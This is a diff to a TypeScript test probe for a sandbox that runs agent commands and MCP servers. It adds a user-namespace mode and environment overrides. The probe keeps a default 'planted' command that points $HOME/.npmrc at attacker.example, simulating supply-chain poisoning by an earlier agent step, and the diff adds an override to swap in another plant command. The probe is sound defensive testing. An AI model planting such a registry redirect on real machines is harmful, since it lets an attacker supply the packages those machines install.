@@ -3,6 +3,8 @@
  * a job, received its secrets in its initial environment (where /proc/<pid>/environ
  * shows them). Usage: probe.ts <sandboxed|unsandboxed|allowlist> <workspace> <temp> <command>
  *
+ * With CREW_PROBE_USERNS=1 the sandbox is local mode's without root (user namespaces), not the tool user's.
+ *
  * With CREW_PROBE_CLOUD=1 it first does what crew's entry does before any step: moves the cloud
  * credentials files out of the workspace (src/sandbox/cloud-credentials.ts); after the command's
  * output it prints `::moved <from> <to>` lines and where GOOGLE_APPLICATION_CREDENTIALS points.
@@ -19,10 +21,12 @@
  *
  * Mode `base` (#46) runs `<command>` as the critic runs the base's tests: in a home made after a command planted an
  * `.npmrc` in the shared one, in a checkout of the workspace's HEAD inside it (`::head`); `::gone` after it is removed.
+ * CREW_PROBE_PLANT replaces that command, CREW_PROBE_FACTS (JSON) the facts server's arguments, and CREW_PROBE_TRUSTED=1
+ * starts the servers in the checkout itself, as on a checkout that is exactly the reviewed commit.
  */
 import { join } from 'node:path';
 import { secureCloudCredentials } from '../../../src/sandbox/cloud-credentials';
-import { prepareSandbox, UnsandboxedRunner, type CommandRunner } from '../../../src/sandbox/command-runner';
+import { prepareSandbox, prepareUserNamespace, UnsandboxedRunner, type CommandRunner } from '../../../src/sandbox/command-runner';
 import { startEgressProxy } from '../../../src/sandbox/egress/proxy';
 
 const [mode, workspace, temp, command] = process.argv.slice(2) as [string, string, string, string];
@@ -35,7 +39,9 @@ const proxy =
       })
     : undefined;
 const runner =
-  mode === 'unsandboxed' ? { runner: new UnsandboxedRunner(temp) } : await prepareSandbox(workspace, temp, proxy ? { socket: proxy.socket } : undefined);
+  mode === 'unsandboxed'
+    ? { runner: new UnsandboxedRunner(temp) }
+    : await (process.env.CREW_PROBE_USERNS === '1' ? prepareUserNamespace : prepareSandbox)(workspace, temp, proxy ? { socket: proxy.socket } : undefined);
 if (!('runner' in runner)) {
   console.error(`no sandbox: ${runner.reason}`);
   process.exit(2);
@@ -48,7 +54,12 @@ if (mode === 'mcp') {
   const { McpServersSchema } = await import('../../../src/domain/mcp');
   const { startMcpServers } = await import('../../../src/mcp/servers');
   const servers = McpServersSchema.parse({
-    facts: { command: process.execPath, args: [command, 'facts'], env: ['FACTS_TOKEN'], tools: ['probe'] },
+    facts: {
+      command: process.execPath,
+      args: process.env.CREW_PROBE_FACTS ? (JSON.parse(process.env.CREW_PROBE_FACTS) as string[]) : [command, 'facts'],
+      env: ['FACTS_TOKEN'],
+      tools: ['probe'],
+    },
     slow: { command: process.execPath, args: [command, 'hang'], tools: ['*'], start_timeout_seconds: 2 },
   });
   const quiet = { info: () => undefined, warn: () => undefined, checkpoint: () => undefined };
@@ -56,7 +67,7 @@ if (mode === 'mcp') {
   const { stdioServerDir } = await import('../../../src/mcp/server-dir');
   const { repo } = gitRepo(workspace, 'http://127.0.0.1:9/unused.git', 'unused');
   const reviewed = await stdioServerDir({
-    trusted: false,
+    trusted: process.env.CREW_PROBE_TRUSTED === '1',
     repo,
     remote: { fetchCommit: async () => undefined },
     reviewedSha: await repo.head(),
@@ -64,9 +75,10 @@ if (mode === 'mcp') {
     log: quiet,
   });
   // The agent's command runs first, as an earlier attempt or a chained task's would, and plants files in its home.
-  const planted = await runner.runner.run('echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"', {
+  const plant = process.env.CREW_PROBE_PLANT ?? 'echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"';
+  const planted = await runner.runner.run(plant, {
     cwd: workspace,
-    timeoutMs: 20_000,
+    timeoutMs: 60_000,
     maxOutputBytes: 10_000,
   });
   const session = await startMcpServers({
@@ -82,7 +94,10 @@ if (mode === 'mcp') {
   for (const n of session.notes) process.stdout.write(`::note ${n}\n`);
   process.stdout.write(`::planted ${planted.exitCode} ${planted.output.trim()}\n`);
   const { readdirSync } = await import('node:fs');
-  const homes = () => readdirSync(join(temp, 'crew-sandbox', 'homes'));
+  const { existsSync } = await import('node:fs');
+  // The tool user's sandbox keeps the servers' homes in its private folder, local mode's beside the commands' home.
+  const homesDir = [join(temp, 'crew-sandbox', 'homes'), join(temp, 'crew-program-homes')].find((d) => existsSync(d))!;
+  const homes = () => readdirSync(homesDir);
   process.stdout.write(`::homes ${homes().length}\n`);
   await session.close();
   process.stdout.write(`::homes-after ${homes().length}\n`);
